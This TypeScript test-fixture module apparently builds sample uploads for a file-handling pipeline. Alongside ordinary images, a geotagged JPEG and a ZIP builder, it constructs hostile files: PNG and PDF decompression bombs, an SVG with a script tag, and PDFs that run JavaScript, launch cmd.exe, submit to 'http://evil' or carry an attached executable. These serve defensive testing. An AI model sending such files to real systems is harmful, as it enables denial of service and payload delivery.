/** Files as people send them, and as those send them who mean no good; each is made here. */
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';

export const bytesOf = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));
export const joined = (...parts: readonly Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));

/** A plain picture. */
export const aPicture = (width: number, height: number, format: 'png' | 'jpeg' | 'webp' | 'gif' = 'jpeg') =>
  sharp({ create: { width, height, channels: 3, background: '#2a7' } })
    .toFormat(format)
    .toBuffer();

/** A photo of a telephone held upright: stored lying, with the place where it was taken and the name of its owner. */
export const aPhoto = (width = 2000, height = 1000) =>
  sharp({ create: { width, height, channels: 3, background: '#c52' } })
    .composite([{ input: { create: { width: width / 2, height, channels: 3, background: '#25c' } }, left: 0, top: 0 }])
    .jpeg()
    .withExif({
      IFD0: { Artist: 'Ada Lovelace', Make: 'Telephone' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();

const CRC = Array.from({ length: 256 }, (_, index) => {
  let value = index;
  for (let bit = 0; bit < 8; bit++) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
  return value >>> 0;
});
const crc32 = (bytes: Uint8Array): number => {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (CRC[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
};
const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const chunk = (type: string, data: Uint8Array) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([uint32(data.length), body, uint32(crc32(body))]);
};

/** A PNG of some kilobytes that says to be of any size: a decompression bomb. */
export function aPngBomb(width: number, height: number): Uint8Array {
  const header = Buffer.concat([uint32(width), uint32(height), Buffer.from([1, 0, 0, 0, 0])]);
  // One bit a pixel, all white: a thousand to one.
  const line = Math.ceil(width / 8) + 1;
  const data = deflateSync(Buffer.alloc(line * Math.min(height, 2000)), { level: 9 });
  return joined(
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', data),
    chunk('IEND', new Uint8Array()),
  );
}

/** The same size with every pixel in it: a JPEG of a camera of 50 megapixels. */
export const aFiftyMegapixelPhoto = async () =>
  sharp(await aPicture(512, 384, 'png'))
    .resize(8192, 6144, { kernel: 'nearest' })
    .jpeg({ quality: 60 })
    .toBuffer();

export const SVG = bytesOf('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

type Change = (document: PDFDocument) => void | Promise<void>;

/** A PDF of one page, packed as writers pack it; `change` adds to it. */
export async function aPdf(change: Change = () => undefined, useObjectStreams = true): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage([300, 200]).drawText('Insulate');
  await change(document);
  return document.save({ useObjectStreams });
}

/** Puts a dictionary into the catalog under a name. */
const inCatalog =
  (key: string, value: Readonly<Record<string, unknown>>): Change =>
  (document) => {
    document.catalog.set(PDFName.of(key), document.context.obj(value as Record<string, string>));
  };

export const aPdfWithScript = (useObjectStreams = true) =>
  aPdf((document) => {
    document.addJavaScript('greet', 'app.alert("hello")');
  }, useObjectStreams);
export const aPdfThatLaunches = () =>
  aPdf(inCatalog('OpenAction', { Type: PDFName.of('Action'), S: PDFName.of('Launch'), F: PDFString.of('cmd.exe') }));
export const aPdfThatSubmits = () =>
  aPdf(
    inCatalog('OpenAction', {
      Type: PDFName.of('Action'),
      S: PDFName.of('SubmitForm'),
      F: PDFString.of('http://evil'),
    }),
  );
export const aPdfWithFile = () =>
  aPdf(async (document) => {
    await document.attach(bytesOf('MZ…'), 'invoice.exe', { mimeType: 'application/octet-stream' });
  });
export async function anEncryptedPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage();
  document.encrypt({ ownerPassword: 'owner', userPassword: 'user' });
  return document.save();
}

/** A PDF by hand: objects in the order given, a table of none. */
export function aRawPdf(
  objects: readonly string[],
  trailer = '<< /Root 1 0 R /Size 9 >>',
  end = '%%EOF\n',
): Uint8Array {
  return bytesOf(`%PDF-1.7\n${objects.join('\n')}\nxref\n0 0\ntrailer\n${trailer}\nstartxref\n0\n${end}`);
}
const PAGES =
  '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj';
export const CATALOG = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj';
export const RAW_PAGES = PAGES;

/** A stream of objects that swells a thousand times when it is unpacked. */
export function aPdfBomb(): Uint8Array {
  const packed = deflateSync(Buffer.alloc(200_000_000, 32), { level: 9 });
  const head = bytesOf(
    `%PDF-1.7\n${CATALOG}\n${PAGES}\n9 0 obj\n<< /Type /ObjStm /N 1 /First 10 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
  );
  return joined(head, packed, bytesOf('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'));
}

/** A ZIP archive of stored files. */
export function aZip(files: Readonly<Record<string, string>>): Uint8Array {
  const locals: Buffer[] = [];
  const entries: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const data = Buffer.from(text);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt32LE(crc32(data), 16);
    entry.writeUInt32LE(data.length, 20);
    entry.writeUInt32LE(data.length, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(offset, 42);
    locals.push(local, Buffer.from(name), data);
    entries.push(entry, Buffer.from(name));
    offset += 30 + name.length + data.length;
  }
  const directory = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(files).length, 8);
  end.writeUInt16LE(Object.keys(files).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return joined(...locals, directory, end);
}
